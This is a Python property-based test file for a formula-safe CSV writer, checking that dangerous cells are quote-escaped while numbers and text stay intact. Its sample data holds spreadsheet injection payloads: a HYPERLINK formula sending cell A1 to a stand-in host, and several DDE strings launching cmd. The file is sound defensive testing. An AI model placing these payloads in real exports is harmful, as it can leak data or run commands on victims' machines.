"""The one formula-safe CSV writer: no cell a spreadsheet would run, numbers stay numbers, text round-trips."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pyarrow as pa
from hypothesis import given, settings
from hypothesis import strategies as st

from creator_ops.core.safe_csv import FORMULA_PREFIXES, csv_bytes, is_number_text, safe_cell, write_arrow_csv

cells = st.one_of(
    st.text(max_size=20),
    st.sampled_from(['=HYPERLINK("http://x.example/?a="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                     "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-12.50", "+60123456789", "-0.01", "1e3"]),
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text(max_size=10)),
    st.integers(min_value=-(10**12), max_value=10**12),
    st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-10**9, max_value=10**9),
)



def _parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@settings(max_examples=150, deadline=None)
@given(row=st.lists(cells, min_size=1, max_size=6))
def test_no_written_cell_starts_a_formula_and_nothing_is_lost(row):
    columns = [f"c{i}" for i in range(len(row))]
    written = _parsed(csv_bytes(columns, [row]))[1]
    for original, cell in zip(row, written, strict=True):
        text = str(original)
        if isinstance(original, (int, Decimal)) or is_number_text(text):
            assert cell == text  # real numbers stay numbers (`-0` as much as `-12.50`)
        elif text.startswith(FORMULA_PREFIXES):
            assert cell == "'" + text  # neutralised, the text itself kept after the quote
        else:
            assert cell == text


def test_number_rule_takes_signed_numbers_and_nothing_a_spreadsheet_would_run():
    for number in ("-12.50", "+60123456789", "-0.01", "1e3", "-0", "1,234.50", ".5", "-1E+06"):
        assert is_number_text(number) and safe_cell(number) == number
    for formula in ("-1+2", "+A1", "-", "=1", "-1e", "1e3+1", " -1", "-0x1F", "-1 "):
        assert not is_number_text(formula)
        assert safe_cell(formula) == ("'" + formula if formula.startswith(FORMULA_PREFIXES) else formula)


def test_header_and_dict_rows_are_neutralised_too():
    data = csv_bytes(["=evil", "creator_id"], [{"=evil": "1", "creator_id": "@SUM(A1)"}])
    assert _parsed(data) == [["'=evil", "creator_id"], ["1", "'@SUM(A1)"]]
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 right only with the BOM


def test_safe_cell_keeps_types_of_numbers():
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-1.50")) == Decimal("-1.50") and safe_cell(None) is None


def test_arrow_writer_neutralises_string_columns(tmp_path):
    table = pa.table({"handle": ["=1+1", "ok", None, "-3.50", "-x"], "n": [1, -2, 3, 4, 5]})
    path = write_arrow_csv(table, tmp_path / "out.csv")
    rows = _parsed(path.read_bytes())
    assert [r[0] for r in rows[1:]] == ["'=1+1", "ok", "", "-3.50", "'-x"]
    assert [r[1] for r in rows[1:]] == ["1", "-2", "3", "4", "5"]
